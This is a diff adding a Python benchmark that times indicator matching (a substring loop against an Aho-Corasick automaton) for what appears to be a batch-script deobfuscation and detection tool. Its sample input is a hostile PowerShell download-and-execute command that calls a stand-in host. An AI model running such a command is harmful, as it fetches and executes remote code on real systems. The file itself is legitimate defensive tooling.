@@ -0,0 +1,61 @@
+"""Benchmark of the indicator scan run on every analyzed command.
+
+Compares one substring scan per indicator against the single-pass Aho-Corasick automaton while
+the number of indicators grows, along with IndicatorMatcher, which picks one of the two by size.
+
+Run from the repository root:
+    python -m benchmarks.bench_indicators
+"""
+import argparse
+import random
+import string
+import time
+
+from batch_deobfuscator.batch_interpreter import RARE_LOLBAS, IndicatorMatcher
+
+COMMAND = 'powershell -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString(\'http://x.example/a\')"'
+
+
+def random_indicators(count):
+    rng = random.Random(count)
+    indicators = list(RARE_LOLBAS)
+    while len(indicators) < count:
+        indicators.append("".join(rng.choice(string.ascii_lowercase + ".\\") for _ in range(rng.randint(5, 20))))
+    return indicators
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("-n", "--number", type=int, default=2000, help="Commands scanned per measurement")
+    args = parser.parse_args()
+
+    print(f"{'indicators':>12}{'loop (us)':>14}{'automaton (us)':>16}{'matcher (us)':>16}")
+    for count in (20, 50, 100, 200, 2000, 20000):
+        indicators = random_indicators(count)
+        automaton = IndicatorMatcher(indicators, automaton=True)
+        matcher = IndicatorMatcher(indicators)
+
+        start = time.perf_counter()
+        for _ in range(args.number):
+            command = COMMAND.lower()
+            [indicator for indicator in indicators if indicator in command]
+        loop = time.perf_counter() - start
+
+        start = time.perf_counter()
+        for _ in range(args.number):
+            automaton.find(COMMAND)
+        single_pass = time.perf_counter() - start
+
+        start = time.perf_counter()
+        for _ in range(args.number):
+            matcher.find(COMMAND)
+        picked = time.perf_counter() - start
+
+        print(
+          f"{count:>12}{loop / args.number * 1e6:>14.1f}{single_pass / args.number * 1e6:>16.1f}"
+          f"{picked / args.number * 1e6:>16.1f}"
+        )
+
+
+if __name__ == "__main__":
+    main()